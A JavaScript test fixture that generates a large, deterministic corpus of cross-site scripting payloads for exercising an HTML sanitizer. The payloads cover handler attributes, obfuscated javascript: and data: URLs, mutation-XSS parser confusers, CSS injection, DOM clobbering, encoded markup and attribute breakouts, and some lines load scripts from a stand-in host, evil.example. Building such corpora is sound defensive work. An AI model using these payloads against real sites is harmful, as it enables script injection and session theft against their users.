// A hostile corpus written here, by combination, in the shape of the public ones (DOMPurify's
// fixtures, cure53's H5SC, PayloadsAllTheThings, OWASP's filter-evasion sheet): every element
// that can carry a handler, with every handler, in every attribute spelling; every URL-bearing
// attribute with every scheme spelling; style, parser-confusion (mXSS), clobbering, encoding and
// attribute-breaking shapes. Deterministic: the same list, in the same order, on every machine.
// Each payload calls a sentinel (alert, confirm, prompt, print) if it ever runs.

const CALLS = [
  'alert(1)',
  'confirm`1`',
  'prompt(document.domain)',
  'print()',
  'top["al"+"ert"](1)',
  'eval(atob("YWxlcnQoMSk="))',
];

/** Elements that run a handler, each with the attributes that make it fire without a click. */
const HANDLER_ELEMENTS = [
  ['img', 'src=x'],
  ['image', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['input', 'autofocus'],
  ['input', 'type=image src=x'],
  ['input', 'type=checkbox checked'],
  ['details', 'open'],
  ['video', 'src=x'],
  ['audio', 'src=x'],
  ['video', '><source src=x'],
  ['iframe', 'src=x'],
  ['object', 'data=x'],
  ['embed', 'src=x'],
  ['marquee', 'loop=1 width=0'],
  ['select', 'autofocus'],
  ['textarea', 'autofocus'],
  ['button', 'autofocus'],
  ['a', 'href=x id=x tabindex=1'],
  ['div', 'tabindex=1 contenteditable'],
  ['style', ''],
  ['frameset', ''],
  ['link', 'rel=stylesheet href=x'],
  ['script', 'src=x'],
  ['xss', 'tabindex=1 popover id=x'],
  ['math', ''],
  ['keygen', 'autofocus'],
  ['meter', 'value=2 min=0 max=10'],
  ['track', 'src=x'],
  ['bgsound', 'src=x'],
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onfocusin',
  'ontoggle',
  'onbeforetoggle',
  'onanimationstart',
  'onmouseover',
  'onpointerenter',
  'onbegin',
  'onpageshow',
  'onstart',
  'onscroll',
  'onloadstart',
  'oncontentvisibilityautostatechange',
];
/** Ways a parser meets the same attribute: quoted, unquoted, slash- or newline-separated, entity-escaped. */
const SPELLINGS = [
  (tag, extra, on, call) => `<${tag} ${extra} ${on}="${call}">`,
  (tag, extra, on, call) => `<${tag} ${extra} ${on}=${call.replace(/ /g, '')}>`,
  (tag, extra, on, call) =>
    `<${tag.toUpperCase()}/${extra.replace(/ /g, '/')}/${on.toUpperCase()}='${call.replace(/'/g, '"')}'>`,
  (tag, extra, on, call) => `<${tag}\n${extra}\n${on}\n=\n"${call.replace(/\(/g, '&#40;')}">x</${tag}>`,
];

/** URL-bearing attributes, as a page would meet them. */
const URL_PLACES = [
  (u) => `<a href="${u}">Đọc tiếp</a>`,
  (u) => `<a href='${u}' target=_blank>x</a>`,
  (u) => `<img src="${u}" alt="x">`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><button>Gửi</button></form>`,
  (u) => `<button form=f formaction="${u}">x</button>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<base href="${u}"><a href=x>x</a>`,
  (u) => `<link rel=stylesheet href="${u}">`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<svg><a xlink:href="${u}"><text y=20>x</text></a></svg>`,
  (u) => `<math href="${u}">x</math>`,
  (u) => `<map><area href="${u}" shape=default></map>`,
  (u) => `<video poster="${u}"></video>`,
  (u) => `<img srcset="${u} 1x" src=y>`,
  (u) => `<picture><source srcset="${u}"><img src=y></picture>`,
  (u) => `<blockquote cite="${u}">x</blockquote>`,
  (u) => `<script src="${u}"></script>`,
  (u) => `<frameset><frame src="${u}"></frameset>`,
  (u) => `<a href="${u}"><img src=y alt=x></a>`,
  (u) => u,
];
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#x09;script:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  ' \u00a0javascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:application/xhtml+xml,<script>alert(1)</script>',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  '//evil.example/x.js',
  'https://evil.example/"><img src=x onerror=alert(1)>',
];

/** Containers whose content a second parse reads differently (mutation XSS). */
const CONFUSERS = [
  (p) => `<noscript><p title="</noscript>${p}">`,
  (p) => `<title><a title="</title>${p}">`,
  (p) => `<textarea><a title="</textarea>${p}">`,
  (p) => `<xmp><a title="</xmp>${p}">`,
  (p) => `<noembed><a title="</noembed>${p}">`,
  (p) => `<noframes><a title="</noframes>${p}">`,
  (p) => `<iframe><a title="</iframe>${p}">`,
  (p) => `<style><a title="</style>${p}">`,
  (p) => `<svg></p><style><a id="</style>${p}">`,
  (p) => `<math><mtext><table><mglyph><style><!--</style>${p}`,
  (p) => `<form><math><mtext></form><form><mglyph><style></math>${p}`,
  (p) => `<svg><![CDATA[><${p.slice(1)}]]></svg>`,
  (p) => `<!--><${p.slice(1)}-->`,
  (p) => `<!-- --!>${p}-->`,
  (p) => `<template shadowrootmode=open>${p}</template>`,
  (p) => `<div><template shadowroot=open>${p}</template></div>`,
  (p) => `<select><template><style><!--</style>${p}`,
  (p) => `<table><caption><svg><desc><style>${p}`,
  (p) => `<a href="#" title="\`${p}">x</a>`,
  (p) => `<plaintext>${p}`,
  (p) => `<?xml-stylesheet ${p}?>`,
  (p) => `<![CDATA[${p}]]>`,
];
const CONFUSED = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;">',
  '<a href=javascript:alert(1)>x</a>',
  '<style>*{background:url(x)}</style>',
];

/** Inline styles and style sheets: the page's style-src must never see feed content. */
const STYLES = [
  'background:url(javascript:alert(1))',
  'background-image:url("https://evil.example/x.png")',
  'width:expression(alert(1))',
  'x:expr/**/ession(alert(1))',
  'behavior:url(#default#time2)',
  '-moz-binding:url(https://evil.example/xss.xml#x)',
  'position:fixed;inset:0;z-index:2147483647',
  'color:red;font-size:200px',
  '\\0062ackground:url(x)',
  'list-style:url(javascript:alert(1))',
];
const STYLE_PLACES = [
  (s) => `<p style="${s}">x</p>`,
  (s) => `<div style='${s}'><img src=y style="${s}"></div>`,
  (s) => `<span STYLE=${s.replace(/[\s"']/g, '')}>x</span>`,
  (s) => `<style>p{${s}}</style>`,
  (s) => `<style>@import url("https://evil.example/x.css");p{${s}}</style>`,
  (s) => `<svg><style>*{${s}}</style></svg>`,
  (s) => `<link rel=stylesheet href="data:text/css,p{${encodeURIComponent(s)}}">`,
  (s) => `<table style="${s}" background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
];

/** Names that clobber document or element properties when an element carries them as id or name. */
const CLOBBERED = [
  'createElement',
  'body',
  'cookie',
  'getElementById',
  'location',
  'defaultView',
  'documentElement',
  'attributes',
  'nodeName',
  'parentNode',
  'ownerDocument',
  'querySelector',
  'implementation',
  'head',
  'forms',
  'images',
  'domain',
  'trustedTypes',
  'removeChild',
  'nodeType',
];
const CLOBBERERS = [
  (n) => `<img name=${n} src=y>`,
  (n) => `<form id=${n}><input name=attributes></form>`,
  (n) => `<a id=${n} href=x>x</a><a id=${n} name=href href="javascript:alert(1)">y</a>`,
  (n) => `<object id=${n}></object>`,
  (n) => `<embed name=${n}>`,
  (n) => `<iframe name=${n} srcdoc="&lt;a id=x&gt;"></iframe>`,
];

/** Text that is markup only when decoded once too often, or read by a lax parser. */
const ENCODED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3C;svg onload=alert(1)&#x3E;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '\u202e<img src=x onerror=alert(1)>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>',
  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
  '<svg><script>&#97;lert(1)</script></svg>',
  '<svg><script href=data:,alert(1) />',
];

/** Values that break out of an attribute or a JSON string if written without escaping. */
const BREAKERS = [
  '" onerror="alert(1)',
  "' autofocus onfocus=alert(1) x='",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</script><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '"}]}</script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '<?lit$1234$>',
  '<!--?lit$1234$-->',
  '<party-news-report onclick=alert(1)></party-news-report>',
  '<div is=x onclick=alert(1)>x</div>',
  '<img src=x onerror=alert(1)//',
  '<svg/onload=alert(1)',
];

function* generate() {
  for (const [tag, extra] of HANDLER_ELEMENTS)
    for (const on of HANDLERS)
      for (const [i, spell] of SPELLINGS.entries()) yield spell(tag, extra, on, CALLS[(i + on.length) % CALLS.length]);
  for (const place of URL_PLACES) for (const url of SCHEMES) yield place(url);
  for (const wrap of CONFUSERS) for (const inner of CONFUSED) yield wrap(inner);
  for (const place of STYLE_PLACES) for (const style of STYLES) yield place(style);
  for (const clobber of CLOBBERERS) for (const name of CLOBBERED) yield clobber(name);
  for (const text of [...ENCODED, ...BREAKERS]) {
    yield text;
    yield `<p>Tin: ${text}</p>`;
    yield `<figure><img src=y alt="${text}"><figcaption>${text}</figcaption></figure>`;
  }
}

/** The generated corpus: a few thousand distinct payloads, always the same. */
export const GENERATED = [...new Set(generate())];
